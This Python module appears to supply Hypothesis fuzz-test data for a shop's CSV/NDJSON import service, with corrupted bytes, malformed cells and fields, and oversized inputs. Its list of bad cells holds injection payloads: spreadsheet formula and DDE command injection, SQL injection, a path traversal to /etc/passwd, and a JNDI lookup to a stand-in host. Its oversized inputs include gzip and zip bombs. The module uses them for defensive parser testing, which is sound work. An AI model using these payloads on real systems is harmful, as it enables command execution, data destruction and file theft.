"""Files as a shop's program never writes them: good ones, damaged byte by byte, cell by cell and field by field."""

from __future__ import annotations

import csv
import gzip
import io
import json
import zipfile
from collections.abc import Mapping
from typing import Any

from hypothesis import strategies as st

from shared.services.imports.formats.catalogue import FORMATS
from tests.data.merchants import header, order, refund
from tests.services.imports.formats.test_unread import ROWS, headers_of

NAMES = [each.name for each in FORMATS]
NASTY_BYTES = (
    b"\0",
    b'"',
    b"\r",
    b"\xff\xfe",
    b"\xed\xa0\x80",
    b"\n",
    b",",
    b";",
    b"\t",
    b"{",
    b"\x1a",
    b"\xef\xbb\xbf",
)
NASTY_CELLS = (
    '=HYPERLINK("http://evil.test")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-0",
    "9" * 400,
    "0." + "0" * 400 + "1",
    "-99999999999999999999.99",
    "1,2,3",
    "1.2.3",
    "\u0661\u0662",
    "0x1F",
    "\0",
    "\u202e",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "1969-12-31",
    "02/29/2025",
    "2026-10-05 25:61:61 +9999",
    "x" * 5_000,
    "'; DROP TABLE facts; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.test}",
    "",
    " ",
    "\u00a0",
    "\ud83d\ude00" * 200,
)
"""Formulas, numbers and dates that are none or too large, and what other programs take for orders."""
FAMILIES: tuple[Mapping[str, Any], ...] = (order(1), order(2, "2026-09-30"), refund())

cells = st.one_of(st.sampled_from(NASTY_CELLS), st.text(max_size=30))
json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), cells, st.just(10**400)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(cells, inner, max_size=3)),
    max_leaves=8,
)


def sheet(name: str, rows: int = 40, *, changed: Mapping[tuple[int, str], str] | None = None) -> bytes:
    """Write a good file of a format, but for these cells."""
    text = io.StringIO()
    headers = headers_of(name)
    writer = csv.writer(text)
    writer.writerow(headers)
    for number in range(rows):
        row = dict(ROWS[name]) | ({"Name": f"#{number}"} if name == "shopify_orders" else {})  # else one order in all
        row |= {field: value for (line, field), value in (changed or {}).items() if line == number}
        writer.writerow([row.get(field, "") for field in headers])
    return text.getvalue().encode(errors="surrogatepass")


def ndjson(lines: list[Any]) -> bytes:
    """Write lines behind a good first one."""
    return "".join(json.dumps(line) + "\n" for line in [header(), *lines]).encode()


@st.composite
def with_other_cells(draw: st.DrawFn) -> bytes:
    """Give a sheet with some cells that no program of the field writes."""
    name = draw(st.sampled_from(NAMES))
    place = st.tuples(st.integers(0, 39), st.sampled_from([*ROWS[name]]))
    return sheet(name, changed=draw(st.dictionaries(place, cells, min_size=1, max_size=2)))


@st.composite
def with_other_bytes(draw: st.DrawFn) -> bytes:
    """Give a file that somebody cut, or wrote something into."""
    name = draw(st.sampled_from([*NAMES, "ndjson"]))
    content = ndjson([*FAMILIES] * 8) if name == "ndjson" else sheet(name)
    for _ in range(draw(st.integers(1, 4))):
        place, length = draw(st.integers(0, len(content))), draw(st.integers(0, 20))
        put = draw(st.sampled_from(NASTY_BYTES) | st.binary(max_size=6))
        content = content[:place] + put + content[place + length :]
    return content


@st.composite
def with_other_fields(draw: st.DrawFn) -> bytes:
    """Give NDJSON with fields of any kind."""
    lines: list[Any] = [dict(each) for each in FAMILIES * 20]
    for _ in range(draw(st.integers(1, 3))):
        line = draw(st.sampled_from(lines))
        line[draw(st.sampled_from(["type", "id", "date", "lines", "order_id", "currency", "total", "customer"]))] = (
            draw(json_values)
        )
    if draw(st.booleans()):
        lines.append(draw(json_values))
    return ndjson(lines)


def zipped(content: bytes) -> bytes:
    """Pack a file as workbooks are packed."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("orders.csv", content)
    return packed.getvalue()


MONSTERS: Mapping[str, bytes] = {
    "a gzip bomb": gzip.compress(b"0" * (1 << 24)),
    "a zip bomb": zipped(b"0" * (1 << 24)),
    "a line without an end": b"a" * (3 << 20),
    "a quote that nothing closes": b'sku,unit_cost\n"' + b"a,\n" * (1 << 19),
    "a million columns": b"," * 1_000_000 + b"\n1\n",
    "a million headers of a format": b"sku,unit_cost" + b",a" * 500_000 + b"\n1,2\n",
    "a cell of a megabyte": b"sku,unit_cost\nA," + b"9" * (1 << 20) + b"\n",
    "brackets without end": ndjson([]) + b"[" * 900_000 + b"\n",
    "braces without end": b'{"a":' * 150_000,
    "a number of a million digits": ndjson([]) + b'{"type":"order","id":' + b"9" * 1_000_000 + b"}\n",
    "nothing but zeros": bytes(1 << 20),
    "UTF-16 that breaks off": b"\xff\xfe" + "sku,unit_cost\n".encode("utf-16-le") + b"\x00",
    "UTF-16 of half pairs": b"\xff\xfe" + b"\x00\xd8" * 1_000,
    "Latin-1": b"sku,unit_cost\ncaf\xe9,1\n",
    "a PDF": b"%PDF-1.7\n" + b"x" * 1_000,
    "nothing": b"",
    "one mark": b"\xef\xbb\xbf",
    "line ends of old": b"sku,unit_cost\rA,1\rB,2\r",
}
